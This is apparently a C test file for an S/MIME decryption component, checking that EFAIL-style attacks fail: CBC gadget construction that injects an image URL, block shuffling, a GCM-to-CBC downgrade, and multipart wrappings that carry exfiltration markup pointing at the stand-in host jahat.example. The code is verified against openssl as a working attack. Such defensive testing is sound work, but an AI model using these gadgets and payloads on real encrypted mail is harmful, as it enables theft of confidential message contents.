/*
 * Ciphertext in an attacker's hands: gadgets in CBC, wrapping for direct exfiltration, covert content in what will be answered, an
 * authenticated cipher turned into CBC. Each vector is shown to work on openssl cms, which gives the plaintext out; here nothing is.
 */
#include "tests/smime/office.h"

#define HEAD "From: jahat@lain.example\r\nTo: ana@prov.example\r\nSubject: Halo\r\nDate: Tue, 2 Jun 2026 10:00:00 +0700\r\nMessage-ID: <2@lain.example>\r\n"
#define SECRET "Sandi brankas: 4711-KENARI"
#define ENTITY "Content-Type: text/html\r\n\r\n<p>Rahasia</p>\r\n<p>" SECRET "</p>\r\n"

enum { BLOCK = 16 };

static const struct wanted cbc = { ENCRYPT_AES256_CBC, KEY_PADDING_V15, false };
static const struct wanted gcm = { ENCRYPT_AES256_GCM, KEY_PADDING_V15, false };
static const enum kind to_rsa[] = { RSA };

/* What openssl makes of the object, as text; "" where it fails. Free it. */
static char *
by_openssl(struct slice der)
{
	struct slice out;
	char *text;

	write_file("attack.der", der.at, der.len);
	(void)run("rm -f attack.out; openssl cms -decrypt -binary -inform DER -in attack.der -recip rsa.crt -inkey rsa.key -out attack.out 2>openssl.log");
	if (access("attack.out", R_OK) != 0)
		return xstrdup("");
	out = read_file("attack.out");
	text = slice_dup(out);
	for (size_t i = 0; i < out.len; i++) /* garbage holds NULs */
		text[i] = text[i] ? text[i] : '?';
	heap_free(out);
	return text;
}

static void
check_nothing(const char *name, struct office *office, struct slice mail, enum decrypt_state want)
{
	AUTO(decrypted_free) struct decrypted *decrypted = NULL;
	struct plain plain;

	office_decrypt(office, RSA, mail, true, &decrypted);
	if (decrypted_facts(decrypted)->state != want)
		fail_msg("%s: %s '%s'", name, decrypt_state_name(decrypted_facts(decrypted)->state), decrypted_facts(decrypted)->why);
	if (decrypted_plain(decrypted, GROUND_CIPHER, &plain) || decrypted_plain(decrypted, GROUND_SIGNATURE, &plain))
		fail_msg("%s: something is given out", name);
}

static void
check_object(const char *name, struct office *office, struct slice der, enum decrypt_state want)
{
	AUTO_BUF struct buf mail = { 0 };

	office_mail(HEAD, der, &mail);
	check_nothing(name, office, buf_slice(&mail), want);
}

/* ---- gadgets ---- */

/*
 * A block before the ciphertext's first that decrypts to `want`: the first block of the plaintext is known, so IV and block make a pair
 * that can be turned to any 16 bytes, with garbage in front.
 */
static void
make_gadget(const unsigned char *iv, const unsigned char *first, const char *known, const char *want, unsigned char ret[2 * BLOCK])
{
	for (size_t i = 0; i < BLOCK; i++)
		ret[i] = (unsigned char)(iv[i] ^ known[i] ^ want[i]);
	memcpy(ret + BLOCK, first, BLOCK);
}

static size_t
find_bytes(struct slice in, const char *bytes, size_t len)
{
	const unsigned char *at = memmem(in.at, in.len, bytes, len);

	assert_non_null(at);
	return (size_t)(at - in.at);
}

/* The object with another ciphertext in its place, in pieces of a block; lengths around it are indefinite then. */
static void
put_ciphertext(const struct enveloped_facts *gate, struct slice der, struct slice iv, struct slice ciphertext, struct buf *ret)
{
	const size_t version = find_bytes(der, "\x02\x01\x00\x31", 4);
	const size_t type = find_bytes(der, "\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01", 11);
	const size_t iv_at = (size_t)(gate->iv.at - der.at);
	size_t heading = 2;

	while (der.at[type - heading] != 0x30)
		heading++;
	buf_init(ret, LIMIT_MESSAGE_BYTES);
	buf_add(ret, "\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0\x80\x30\x80", 17);
	buf_add(ret, der.at + version, type - heading - version);
	buf_add(ret, "\x30\x80", 2);
	buf_add(ret, der.at + type, iv_at - type);
	buf_add_slice(ret, iv);
	buf_add(ret, "\xa0\x80", 2);
	for (size_t at = 0; at < ciphertext.len; at += BLOCK) {
		buf_add(ret, "\x04\x10", 2);
		buf_add(ret, ciphertext.at + at, BLOCK);
	}
	buf_add(ret, "\0\0\0\0\0\0\0\0\0\0", 10);
}

/* The secret between the quotes of an image's address: what a mail program would fetch. */
static void
make_exfiltration(const struct enveloped_facts *gate, struct slice der, const char *known, struct buf *ret)
{
	unsigned char gadget[2 * BLOCK], iv[BLOCK];
	AUTO_BUF struct buf text = { 0 };

	buf_init(&text, 1 << 16);
	/* The first block stays what it is (so that the head holds), an image opens behind the head, and all of the old text follows. */
	memcpy(iv, gate->iv.at, BLOCK);
	buf_add(&text, gate->content.at, 2 * BLOCK);
	make_gadget(gate->iv.at, gate->content.at, known, "<img src='http:/", gadget);
	buf_add(&text, gadget, sizeof(gadget));
	make_gadget(gate->iv.at, gate->content.at, known, "/jahat.example/ ", gadget);
	buf_add(&text, gadget, sizeof(gadget));
	buf_add(&text, gate->content.at + BLOCK, gate->content.len - BLOCK);
	put_ciphertext(gate, der, (struct slice){ iv, BLOCK }, buf_slice(&text), ret);
}

static void
check_gadget(struct office *office, struct slice content, const char *name)
{
	struct enveloped_facts *gate = xcalloc(1, sizeof(*gate));
	AUTO_BUF struct buf der = { 0 }, attack = { 0 };
	char *text;

	office_encrypt(office, &cbc, to_rsa, 1, content, &der);
	enveloped_read(buf_slice(&der), gate);
	make_exfiltration(gate, buf_slice(&der), (const char *)content.at, &attack);
	text = by_openssl(buf_slice(&attack));
	if (!strstr(text, "<img src='http:/") || !strstr(text, SECRET))
		fail_msg("%s: the vector does not work on openssl: '%s'", name, text);
	xfree(text);
	enveloped_read(buf_slice(&attack), gate);
	assert_int_equal(gate->state, ENVELOPED_PASSES);
	check_object(name, office, buf_slice(&attack), DECRYPT_FAILED);
	xfree(gate);
}

static void
test_gadgets(void **given)
{
	struct office *office = *given;
	AUTO_BUF struct buf cms = { 0 }, signed_mail = { 0 };
	struct forge forge = { .signer = "signer", .content = slice_of(ENTITY) };

	check_gadget(office, slice_of(ENTITY), "gadgets in what was not signed");
	forge_cms(&forge, &cms);
	forge_clear_mail("", slice_of(ENTITY), buf_slice(&cms), &signed_mail);
	check_gadget(office, buf_slice(&signed_mail), "gadgets around what was signed");
}

/* Every block of a signed message moved, doubled or left out. */
static void
test_blocks(void **given)
{
	struct office *office = *given;
	struct enveloped_facts *gate = xcalloc(1, sizeof(*gate));
	AUTO_BUF struct buf der = { 0 }, cms = { 0 }, mail = { 0 };
	struct forge forge = { .signer = "signer", .content = slice_of(ENTITY) };
	size_t n;

	forge_cms(&forge, &cms);
	forge_clear_mail("", slice_of(ENTITY), buf_slice(&cms), &mail);
	office_encrypt(office, &cbc, to_rsa, 1, buf_slice(&mail), &der);
	enveloped_read(buf_slice(&der), gate);
	n = gate->content.len / BLOCK;
	for (size_t i = 0; i < n; i++) {
		AUTO_BUF struct buf text = { 0 }, attack = { 0 };

		buf_init(&text, LIMIT_MESSAGE_BYTES);
		buf_add(&text, gate->content.at, i * BLOCK);
		if (i % 3 == 0)
			buf_add(&text, gate->content.at + (i + n / 2) % n * BLOCK, BLOCK);
		if (i % 3 == 1)
			buf_add(&text, gate->content.at + i * BLOCK, BLOCK);
		if (i % 3 != 2)
			buf_add(&text, gate->content.at + i * BLOCK, BLOCK);
		buf_add(&text, gate->content.at + (i + 1) * BLOCK, (n - i - 1) * BLOCK);
		put_ciphertext(gate, buf_slice(&der), gate->iv, buf_slice(&text), &attack);
		check_object("a block moved", office, buf_slice(&attack), DECRYPT_FAILED);
	}
	xfree(gate);
}

/* ---- an authenticated cipher taken for CBC ---- */

static void
test_downgrade(void **given)
{
	struct office *office = *given;
	struct enveloped_facts *gate = xcalloc(1, sizeof(*gate));
	AUTO_BUF struct buf authenticated = { 0 }, other = { 0 }, attack = { 0 }, whole = { 0 };
	struct slice block;

	office_encrypt(office, &gcm, to_rsa, 1, slice_of(ENTITY), &authenticated);
	enveloped_read(buf_slice(&authenticated), gate);
	block = gate->recipients[0].transport.block;
	buf_init(&whole, 1 << 16);
	buf_add(&whole, gate->content.at, gate->content.len / BLOCK * BLOCK);
	{
		/* An EnvelopedData of ours, with that key's block and that ciphertext. */
		struct enveloped_facts *host = xcalloc(1, sizeof(*host));

		office_encrypt(office, &cbc, to_rsa, 1, slice_of(ENTITY), &other);
		enveloped_read(buf_slice(&other), host);
		memcpy((void *)(uintptr_t)host->recipients[0].transport.block.at, block.at, block.len);
		put_ciphertext(host, buf_slice(&other), host->iv, buf_slice(&whole), &attack);
		xfree(host);
	}
	check_object("GCM taken for CBC", office, buf_slice(&attack), DECRYPT_FAILED);
	xfree(gate);
}

/* ---- wrapping ---- */

static void
multipart(const char *before, struct slice part, const char *behind, const char *head, struct buf *ret)
{
	buf_init(ret, LIMIT_MESSAGE_BYTES);
	buf_add_text(ret, head);
	buf_add_text(ret, "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"luar\"\r\n\r\n--luar\r\nContent-Type: text/html\r\n\r\n");
	buf_add_text(ret, before);
	buf_add_text(ret, "\r\n--luar\r\n");
	buf_add_slice(ret, part);
	buf_add_text(ret, "\r\n--luar\r\nContent-Type: text/html\r\n\r\n");
	buf_add_text(ret, behind);
	buf_add_text(ret, "\r\n--luar--\r\n");
}

static const struct {
	const char *name, *before, *behind;
} wrappings[] = {
	{ "an image's address", "<img src=\"http://jahat.example/?", "\">" },
	{ "a form", "<form action=\"http://jahat.example/\"><textarea name=x>", "</textarea></form>" },
	{ "covert content in what will be answered", "<p>Mohon dibalas.</p><div style=\"display:none\">", "</div>" },
	{ "a style sheet", "<style>@import url('http://jahat.example/?", "');</style>" },
};

static void
test_wrapping(void **given)
{
	struct office *office = *given;
	AUTO_BUF struct buf der = { 0 }, part = { 0 };

	office_encrypt(office, &gcm, to_rsa, 1, slice_of(ENTITY), &der);
	office_mail("", buf_slice(&der), &part);
	for (size_t i = 0; i < N_ELEMENTS(wrappings); i++) {
		AUTO_BUF struct buf mail = { 0 };

		multipart(wrappings[i].before, buf_slice(&part), wrappings[i].behind, HEAD, &mail);
		check_nothing(wrappings[i].name, office, buf_slice(&mail), DECRYPT_NONE);
	}
	{
		AUTO_BUF struct buf mail = { 0 };

		buf_init(&mail, LIMIT_MESSAGE_BYTES);
		buf_add_text(&mail, HEAD "Content-Type: message/rfc822\r\n\r\n");
		buf_add_slice(&mail, buf_slice(&part));
		check_nothing("forwarded", office, buf_slice(&mail), DECRYPT_NONE);
	}
}

/* The same inside of an encryption of the attacker's own: that one opens, the part in it stays shut. */
static void
test_wrapping_inside(void **given)
{
	struct office *office = *given;
	AUTO_BUF struct buf der = { 0 }, part = { 0 };

	office_encrypt(office, &gcm, to_rsa, 1, slice_of(ENTITY), &der);
	office_mail("", buf_slice(&der), &part);
	for (size_t i = 0; i < N_ELEMENTS(wrappings); i++) {
		AUTO(decrypted_free) struct decrypted *decrypted = NULL;
		AUTO_BUF struct buf entity = { 0 }, outer = { 0 }, mail = { 0 };
		struct plain plain;

		multipart(wrappings[i].before, buf_slice(&part), wrappings[i].behind, "", &entity);
		office_encrypt(office, &gcm, to_rsa, 1, buf_slice(&entity), &outer);
		office_mail(HEAD, buf_slice(&outer), &mail);
		office_decrypt(office, RSA, buf_slice(&mail), true, &decrypted);
		assert_int_equal(decrypted_facts(decrypted)->state, DECRYPT_OPENED);
		assert_true(decrypted_plain(decrypted, GROUND_CIPHER, &plain));
		assert_null(memmem(plain.body.at, plain.body.len, SECRET, strlen(SECRET)));
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_gadgets),
		cmocka_unit_test(test_blocks),
		cmocka_unit_test(test_downgrade),
		cmocka_unit_test(test_wrapping),
		cmocka_unit_test(test_wrapping_inside),
	};

	return cmocka_run_group_tests(tests, office_open, office_close);
}
